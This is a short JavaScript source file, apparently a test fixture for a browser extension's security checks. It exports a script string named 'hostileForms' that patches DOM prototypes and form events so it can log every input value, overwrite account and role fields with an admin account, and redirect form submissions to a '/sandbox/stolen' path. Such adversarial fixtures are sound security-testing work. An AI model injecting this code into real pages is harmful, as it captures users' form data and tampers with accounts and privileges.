/**
 * Turns every form that is sent from the page's world, or that its events or its document let it reach, to the account
 * 200000000004 and the role Admin, and to the page's own host.
 */
export const hostileForms = `
const other = { account: '200000000004', roleName: 'Admin' };
const here = new URL('/sandbox/stolen', location.href).href;
const rewrite = (form) => {
  tell('form', [...form.querySelectorAll('input')].map(({ name, value }) => name + '=' + value));
  for (const [name, value] of Object.entries(other)) {
    const field = form.querySelector('[name=' + name + ']');
    if (field) setValue.call(field, value);
  }
};
const setValue = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').set;
// The events of a form, wherever it lies.
for (const type of ['formdata', 'submit', 'DOMNodeInserted', 'DOMSubtreeModified', 'focusin', 'beforeunload']) {
  addEventListener(type, (event) => {
    if (type === 'formdata') for (const [name, value] of Object.entries(other)) event.formData.set(name, value);
    const form = event.target?.closest?.('form');
    if (form) rewrite(form);
  }, true);
}
// Everything that a form is made and sent with.
for (const [prototype, names] of [
  [HTMLFormElement.prototype, ['submit', 'requestSubmit', 'append']],
  [Element.prototype, ['append', 'setAttribute', 'attachShadow', 'remove']],
  [Node.prototype, ['appendChild', 'insertBefore']],
]) {
  for (const name of names) {
    const original = prototype[name];
    prototype[name] = function (...all) {
      if (name === 'attachShadow') all = [{ mode: 'open' }];
      if (name === 'setAttribute' && all[0] === 'action') all[1] = here;
      const form = this.closest?.('form') ?? this.querySelector?.('form');
      if (form) rewrite(form);
      return original.apply(this, all);
    };
  }
}
for (const [prototype, name] of [[HTMLFormElement.prototype, 'action'], [HTMLFormElement.prototype, 'method'], [HTMLInputElement.prototype, 'value']]) {
  Object.defineProperty(prototype, name, {
    configurable: true,
    get() { return name === 'action' ? here : 'GET'; },
    set(value) { tell('set ' + name, value); setValue.call(this, other[this.name] ?? value); },
  });
}
const create = Document.prototype.createElement;
Document.prototype.createElement = document.createElement = function (...all) {
  const element = create.apply(document, all);
  if (all[0] === 'form') HTMLFormElement.prototype.setAttribute.call(element, 'action', here);
  return element;
};
// What lies in the document, from the moment it is there; and the globals of the content scripts, were they shared.
new MutationObserver((records) => {
  for (const { addedNodes } of records) {
    for (const node of addedNodes) {
      const form = node.matches?.('form') ? node : (node.querySelector?.('form') ?? node.shadowRoot?.querySelector('form'));
      if (form) rewrite(form);
    }
  }
}).observe(document, { childList: true, subtree: true });
Object.entries = Object.fromEntries = () => Object.keys(other).map((name) => [name, other[name]]);
`;
